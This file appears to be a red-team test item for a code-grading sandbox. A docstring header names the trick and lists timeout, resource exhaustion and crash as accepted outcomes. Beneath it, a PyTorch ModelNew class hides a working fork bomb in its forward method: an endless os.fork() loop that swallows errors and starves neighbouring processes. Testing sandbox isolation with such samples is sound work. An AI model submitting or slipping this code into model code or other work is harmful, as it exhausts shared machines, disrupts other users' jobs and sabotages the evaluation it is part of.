"""redteam
trick = "forks for as long as it goes, and so does each child"
entries = ["F8"]
accept = ["timeout", "resource_exceeded", "crashed", "correct"]
answers = "call"
timed = true  # that is, alone: it starves its neighbours
"""
import os

import torch


class ModelNew(torch.nn.Module):
    def forward(self, x):
        while True:
            try:
                os.fork()
            except OSError:
                pass
